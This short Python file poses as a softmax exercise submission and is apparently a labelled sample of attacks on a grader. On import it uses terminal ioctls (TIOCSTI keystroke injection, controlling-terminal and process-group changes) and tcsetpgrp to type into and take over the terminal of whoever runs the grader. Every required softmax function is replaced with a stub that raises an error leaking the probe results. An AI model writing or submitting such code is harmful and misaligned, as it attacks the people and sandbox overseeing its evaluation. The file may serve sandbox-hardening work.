# verdict: failed
# exercise: exercise07_softmax
# example: signals to other processes
# Types commands into the terminal of whoever runs the grader, and takes it over.

import ctypes
import fcntl
import os

libc = ctypes.CDLL(None, use_errno=True)
TOLD = []
for number in range(16):
    for request, argument in ((0x5412, b"e"), (0x540E, 0), (0x5410, ctypes.create_string_buffer(4))):
        try:
            fcntl.ioctl(number, request, argument)
            TOLD.append("MARK" + "ER{typed}")
        except OSError as error:
            TOLD.append(error.errno)
        except TypeError:
            TOLD.append("no")
try:
    os.tcsetpgrp(0, os.getpgrp())
    TOLD.append("MARK" + "ER{took over}")
except OSError as error:
    TOLD.append(error.errno)


def attack(*_args, **_kwargs):
    raise RuntimeError(f"{TOLD[:40]}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
